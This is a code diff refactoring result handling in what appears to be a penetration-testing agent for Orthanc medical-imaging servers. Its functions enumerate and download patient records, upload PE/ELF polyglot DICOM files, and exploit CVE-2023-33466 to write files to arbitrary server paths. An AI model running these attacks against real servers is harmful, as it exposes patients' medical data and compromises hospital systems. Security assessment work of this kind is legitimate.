@@ -15,7 +15,8 @@
 //! an overall timeout; every body read is bounded.
 
 use crate::error::AgentError;
-use serde_json::{Value, json};
+use protocol::result::{RestProbeResult, RestWriteResult, UploadPolyglotResult, to_value};
+use serde_json::Value;
 use std::io::Read;
 use std::time::{Duration, Instant};
 
@@ -179,34 +180,25 @@ impl Rest {
 /// `rest-probe`: what the REST API gives away.
 pub fn probe(rest: &Rest, download: bool) -> Result<Value, (Value, AgentError)> {
     let start = Instant::now();
-    let mut v = json!({
-        "action": "rest-probe",
-        "success": false,
-        "url": rest.base,
-        "authenticated": rest.auth.is_some(),
-        "status": {},
-        "orthanc_version": Value::Null,
-        "dicom_aet": Value::Null,
-        "name": Value::Null,
-        "patients": Value::Null,
-        "instances": Value::Null,
-        "downloaded_bytes": Value::Null,
-        "patient_names": [],
-        "error": Value::Null,
-    });
+    let mut v = RestProbeResult {
+        action: "rest-probe".into(),
+        authenticated: rest.auth.is_some(),
+        url: rest.base.clone(),
+        ..Default::default()
+    };
     let mut status = serde_json::Map::new();
     // The first request tells whether the server is there at all.
     let sys = match rest.get("/system") {
         Ok(a) => a,
-        Err(e) => return Err((v, e)),
+        Err(e) => return Err((to_value(&v), e)),
     };
-    status.insert("/system".into(), json!(sys.status));
+    status.insert("/system".into(), Value::from(sys.status));
     if sys.status == 200
         && let Some(j) = sys.json()
     {
-        v["orthanc_version"] = j["Version"].clone();
-        v["dicom_aet"] = j["DicomAet"].clone();
-        v["name"] = j["Name"].clone();
+        v.orthanc_version = j["Version"].clone();
+        v.dicom_aet = j["DicomAet"].clone();
+        v.name = j["Name"].clone();
     }
     let mut names = Vec::new();
     let mut readable = false;
@@ -217,7 +209,7 @@ pub fn probe(rest: &Rest, download: bool) -> Result<Value, (Value, AgentError)> 
         status: &mut serde_json::Map<String, Value>,
         first_error: &mut Option<String>,
     ) {
-        status.insert(path.into(), json!(a.status));
+        status.insert(path.into(), Value::from(a.status));
         if a.status != 200 && first_error.is_none() {
             *first_error = Some(format!("GET {path}: HTTP {} {}", a.status, a.text()));
         }
@@ -229,7 +221,7 @@ pub fn probe(rest: &Rest, download: bool) -> Result<Value, (Value, AgentError)> 
                 && let Some(ids) = a.json().and_then(|j| j.as_array().cloned())
             {
                 readable = true;
-                v["patients"] = json!(ids.len());
+                v.patients = Some(ids.len() as u64);
                 for id in ids
                     .iter()
                     .filter_map(|i| i.as_str())
@@ -257,22 +249,21 @@ pub fn probe(rest: &Rest, download: bool) -> Result<Value, (Value, AgentError)> 
                 && let Some(ids) = a.json().and_then(|j| j.as_array().cloned())
             {
                 readable = true;
-                v["instances"] = json!(ids.len());
+                v.instances = Some(ids.len() as u64);
                 first_instance = ids.first().and_then(|i| i.as_str()).map(String::from);
             }
         }
         Err(e) => first_error = first_error.or(Some(e.message)),
     }
     if download && let Some(id) = &first_instance {
-        v["instance"] = json!(id);
+        v.instance = Some(id.clone());
         let path = format!("/instances/{id}/file");
         match rest.get_counted(&path, MAX_DOWNLOAD) {
             Ok(a) => {
-                status.insert(path.clone(), json!(a.status));
+                status.insert(path.clone(), Value::from(a.status));
                 if a.status == 200 {
-                    v["downloaded_bytes"] = json!(a.total);
-                    v["download_is_dicom"] =
-                        json!(a.body.len() >= 132 && &a.body[128..132] == b"DICM");
+                    v.downloaded_bytes = Some(a.total);
+                    v.download_is_dicom = Some(a.body.len() >= 132 && &a.body[128..132] == b"DICM");
                 }
             }
             Err(e) => first_error = first_error.or(Some(e.message)),
@@ -280,13 +271,13 @@ pub fn probe(rest: &Rest, download: bool) -> Result<Value, (Value, AgentError)> 
         let path = format!("/instances/{id}/simplified-tags");
         match rest.get(&path) {
             Ok(a) => {
-                status.insert(path.clone(), json!(a.status));
+                status.insert(path.clone(), Value::from(a.status));
                 if a.status == 200
                     && let Some(name) = a
                         .json()
                         .and_then(|j| j["PatientName"].as_str().map(String::from))
                 {
-                    v["instance_patient_name"] = json!(name);
+                    v.instance_patient_name = Some(name.clone());
                     if !names.contains(&name) {
                         names.push(name);
                     }
@@ -295,12 +286,12 @@ pub fn probe(rest: &Rest, download: bool) -> Result<Value, (Value, AgentError)> 
             Err(e) => first_error = first_error.or(Some(e.message)),
         }
     }
-    v["status"] = Value::Object(status);
-    v["patient_names"] = json!(names);
-    v["success"] = json!(readable);
-    v["error"] = json!(first_error);
-    v["elapsed_ms"] = json!(start.elapsed().as_millis() as u64);
-    Ok(v)
+    v.status = status;
+    v.patient_names = names;
+    v.success = readable;
+    v.error = first_error;
+    v.elapsed_ms = Some(start.elapsed().as_millis() as u64);
+    Ok(to_value(&v))
 }
 
 /// The kinds of preamble `upload-polyglot` writes.
@@ -312,18 +303,6 @@ pub enum Preamble {
     Elf,
     /// A little-endian TIFF header (`II*\0`): legitimate (PS3.10 7.5 allows it).
     Tiff,
-}
-
-impl std::str::FromStr for Preamble {
-    type Err = String;
-    fn from_str(s: &str) -> Result<Self, String> {
-        match s.to_ascii_lowercase().as_str() {
-            "pe" => Ok(Preamble::Pe),
-            "elf" => Ok(Preamble::Elf),
-            "tiff" => Ok(Preamble::Tiff),
-            o => Err(format!("unknown preamble '{o}': use pe, elf or tiff")),
-        }
-    }
 }
 
 impl Preamble {
@@ -417,57 +396,60 @@ fn upload(rest: &Rest, bytes: &[u8]) -> Result<(Answer, Option<String>), AgentEr
 
 /// `upload-polyglot`.
 pub fn upload_polyglot(rest: &Rest, preamble: Preamble) -> Result<Value, (Value, AgentError)> {
-    let mut v = json!({
-        "action": "upload-polyglot",
-        "success": false,
-        "preamble": preamble.name(),
-        "http_status": Value::Null,
-        "orthanc_id": Value::Null,
-    });
+    let mut v = UploadPolyglotResult {
+        action: "upload-polyglot".into(),
+        preamble: preamble.name().into(),
+        ..Default::default()
+    };
     let bytes = match polyglot(preamble, "POLYGLOT^TEST") {
         Ok(b) => b,
-        Err(e) => return Err((v, e)),
+        Err(e) => return Err((to_value(&v), e)),
     };
-    v["bytes"] = json!(bytes.len());
-    v["preamble_magic"] = json!(
+    v.bytes = Some(bytes.len() as u64);
+    v.preamble_magic = Some(
         bytes[..4]
             .iter()
             .map(|b| format!("{b:02x}"))
-            .collect::<String>()
+            .collect::<String>(),
     );
     let (a, id) = match upload(rest, &bytes) {
         Ok(x) => x,
-        Err(e) => return Err((v, e)),
+        Err(e) => return Err((to_value(&v), e)),
     };
-    v["http_status"] = json!(a.status);
-    v["orthanc_id"] = json!(id);
+    v.http_status = Some(a.status);
+    v.success = a.status == 200 && id.is_some();
+    v.orthanc_id = id;
     if let Some(j) = a.json() {
-        v["orthanc_status"] = j["Status"].clone();
+        v.orthanc_status = Some(j["Status"].clone());
     }
-    v["success"] = json!(a.status == 200 && id.is_some());
     if a.status != 200 {
-        v["error"] = json!(format!("HTTP {} {}", a.status, a.text()));
+        v.error = Some(format!("HTTP {} {}", a.status, a.text()));
     }
-    Ok(v)
+    Ok(to_value(&v))
 }
 
 /// `rest-write` (CVE-2023-33466).
 pub fn rest_write(rest: &Rest, path: &str) -> Result<Value, (Value, AgentError)> {
-    let mut v = json!({
-        "action": "rest-write",
-        "success": false,
-        "http_status": Value::Null,
-        "path": path,
-        "instance": Value::Null,
-        "uploaded": false,
-        "error": Value::Null,
-    });
+    let (v, error) = rest_write_line(rest, path);
+    match error {
+        None => Ok(to_value(&v)),
+        Some(e) => Err((to_value(&v), e)),
+    }
+}
+
+/// The line, and why the attack could not run (if it could not).
+fn rest_write_line(rest: &Rest, path: &str) -> (RestWriteResult, Option<AgentError>) {
+    let mut v = RestWriteResult {
+        action: "rest-write".into(),
+        path: path.into(),
+        ..Default::default()
+    };
     if !path.starts_with('/') {
-        return Err((v, AgentError::other("--path must be absolute")));
+        return (v, Some(AgentError::other("--path must be absolute")));
     }
     let list = match rest.get("/instances") {
         Ok(a) => a,
-        Err(e) => return Err((v, e)),
+        Err(e) => return (v, Some(e)),
     };
     let mut id = None;
     if list.status == 200 {
@@ -476,60 +458,66 @@ pub fn rest_write(rest: &Rest, path: &str) -> Result<Value, (Value, AgentError)>
             .and_then(|j| j.as_array().and_then(|a| a.first().cloned()))
             .and_then(|x| x.as_str().map(String::from));
     } else {
-        v["http_status"] = json!(list.status);
-        v["error"] = json!(format!(
+        v.http_status = Some(list.status);
+        v.error = Some(format!(
             "GET /instances: HTTP {} {}",
             list.status,
             list.text()
         ));
         // Without read access there is no instance id to export: the attack failed.
         if list.status == 401 || list.status == 403 {
-            return Ok(v);
+            return (v, None);
         }
     }
     if id.is_none() {
         let bytes = match polyglot(Preamble::Tiff, "EXPORT^CARRIER") {
             Ok(b) => b,
-            Err(e) => return Err((v, e)),
+            Err(e) => return (v, Some(e)),
         };
         // A plain (zero) preamble: this instance only carries the export.
         let mut bytes = bytes;
         bytes[..128].fill(0);
         match upload(rest, &bytes) {
             Ok((a, Some(new_id))) if a.status == 200 => {
-                v["uploaded"] = json!(true);
+                v.uploaded = true;
                 id = Some(new_id);
             }
             Ok((a, _)) => {
-                v["http_status"] = json!(a.status);
-                v["error"] = json!(format!(
+                v.http_status = Some(a.status);
+                v.error = Some(format!(
                     "no instance stored and POST /instances answered HTTP {} {}",
                     a.status,
                     a.text()
                 ));
-                return Ok(v);
+                return (v, None);
             }
-            Err(e) => return Err((v, e)),
+            Err(e) => return (v, Some(e)),
         }
     }
     let id = id.expect("set above");
-    v["instance"] = json!(id);
+    v.instance = Some(id.clone());
     match rest.post(
         &format!("/instances/{id}/export"),
         "text/plain",
         path.as_bytes(),
     ) {
         Ok(a) => {
-            v["http_status"] = json!(a.status);
-            v["success"] = json!(a.status == 200);
-            v["error"] = if a.status == 200 {
-                Value::Null
-            } else {
-                json!(format!("HTTP {} {}", a.status, a.text()))
-            };
-            Ok(v)
+            v.http_status = Some(a.status);
+            v.success = a.status == 200;
+            v.error = (a.status != 200).then(|| format!("HTTP {} {}", a.status, a.text()));
+            (v, None)
         }
-        Err(e) => Err((v, e)),
+        Err(e) => (v, Some(e)),
+    }
+}
+
+impl From<protocol::Preamble> for Preamble {
+    fn from(p: protocol::Preamble) -> Self {
+        match p {
+            protocol::Preamble::Pe => Preamble::Pe,
+            protocol::Preamble::Elf => Preamble::Elf,
+            protocol::Preamble::Tiff => Preamble::Tiff,
+        }
     }
 }
 
